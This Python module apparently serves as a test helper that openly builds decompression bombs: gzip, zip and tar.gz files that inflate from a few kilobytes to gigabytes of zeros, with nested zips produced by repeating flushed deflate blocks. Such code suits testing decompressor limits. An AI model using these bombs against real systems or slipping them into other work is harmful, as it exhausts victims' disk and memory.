"""Building gzip and zip bombs cheaply: a gigabyte of zeros is compressed once per mebibyte, then repeated.

After a full flush a deflate stream forgets its history, so the compressed form
of a mebibyte of zeros, flushed, is the same every time: a bomb is that unit
repeated, between compressed heads and tails. Zips are written by hand (one
local header, the data, the central directory), so nothing is inflated or
deflated whole.
"""

from __future__ import annotations

import gzip
import struct
import zlib

MIB = 2**20
_ZEROS = bytes(MIB)


def _zero_crc(mib: int, crc: int = 0) -> int:
    for _ in range(mib):
        crc = zlib.crc32(_ZEROS, crc)
    return crc


def deflate(parts: list[bytes | int]) -> tuple[bytes, int, int]:
    """Raw deflate of ``parts`` (bytes, or an int: that many MiB of zeros); return (data, crc32, size)."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    out, crc, size = [], 0, 0
    for part in parts:
        if isinstance(part, int):
            out.append(compressor.compress(_ZEROS) + compressor.flush(zlib.Z_FULL_FLUSH))
            unit = compressor.compress(_ZEROS) + compressor.flush(zlib.Z_FULL_FLUSH)
            out.append(unit * (part - 1))
            crc, size = _zero_crc(part, crc), size + part * MIB
        else:
            out.append(compressor.compress(part) + compressor.flush(zlib.Z_FULL_FLUSH))
            crc, size = zlib.crc32(part, crc), size + len(part)
    out.append(compressor.flush())
    return b"".join(out), crc, size


def gzip_of_zeros(mib: int) -> bytes:
    """A gzip stream (several members, as gzip allows) that inflates to ``mib`` MiB of zeros."""
    member = gzip.compress(bytes(16 * MIB), compresslevel=9, mtime=0)
    return member * (mib // 16) + gzip.compress(bytes((mib % 16) * MIB), mtime=0)


def _entry(name: bytes, method: int, crc: int, csize: int, usize: int) -> tuple[bytes, bytes]:
    common = struct.pack("<HHHHHIII", 20, 0, method, 0, 0x21, crc, csize, usize)
    local = b"PK\x03\x04" + common + struct.pack("<HH", len(name), 0) + name
    central = b"PK\x01\x02" + struct.pack("<H", 20) + common + struct.pack("<HHHHHII", len(name), 0, 0, 0, 0, 0, 0) + name
    return local, central


Member = tuple[str, list[bytes | int], bool]
"""A zip member: its name, its parts (bytes, or MiB of zeros), and whether it is deflated."""


def zip_parts(members: list[Member]) -> list[bytes | int]:
    """A zip of ``members``, as parts itself: a stored member keeps its runs of zeros as runs,
    so a zip holding it can be deflated again cheaply by :func:`deflate`."""
    out: list[bytes | int] = []
    directory, offset = b"", 0
    for name, parts, deflated in members:
        if deflated:
            data, crc, size = deflate(parts)
            body: list[bytes | int] = [data]
            csize = len(data)
        else:
            crc = size = 0
            for part in parts:
                if isinstance(part, int):
                    crc, size = _zero_crc(part, crc), size + part * MIB
                else:
                    crc, size = zlib.crc32(part, crc), size + len(part)
            body, csize = list(parts), size
        local, central = _entry(name.encode(), 8 if deflated else 0, crc, csize, size)
        directory += central[:42] + struct.pack("<I", offset) + central[46:]
        out += [local, *body]
        offset += len(local) + csize
    end = b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, len(members), len(members), len(directory), offset, 0)
    return [*out, directory + end]


def zip_bytes(members: list[Member]) -> bytes:
    """The bytes of a zip of ``members``."""
    return b"".join(p if isinstance(p, bytes) else bytes(p * MIB) for p in zip_parts(members))


def tar_gz_of_zeros(members: list[tuple[str, int]]) -> bytes:
    """A .tar.gz whose members (name, MiB of zeros) inflate to their full size; it is about 1 KB a MiB.

    Each piece is a gzip member of its own (gzip allows that): a header, then
    the zeros from :func:`gzip_of_zeros`, then the two zero blocks that end a tar.
    """
    import tarfile

    out = []
    for name, mib in members:
        info = tarfile.TarInfo(name)
        info.size = mib * MIB
        out += [gzip.compress(info.tobuf(format=tarfile.GNU_FORMAT), mtime=0), gzip_of_zeros(mib)]
    return b"".join(out) + gzip.compress(bytes(1024), mtime=0)
